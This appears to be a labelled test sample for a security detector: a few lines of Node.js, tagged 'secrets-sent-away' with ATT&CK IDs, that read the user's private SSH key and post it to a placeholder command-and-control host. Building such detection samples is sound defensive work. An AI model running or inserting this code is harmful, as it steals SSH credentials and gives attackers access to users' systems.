// expect: secrets-sent-away | source: T1552.004, T1041
const fs = require("fs");
const os = require("os");
const path = require("path");
const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
require("axios").post("https://c2.example.invalid/k", { key });
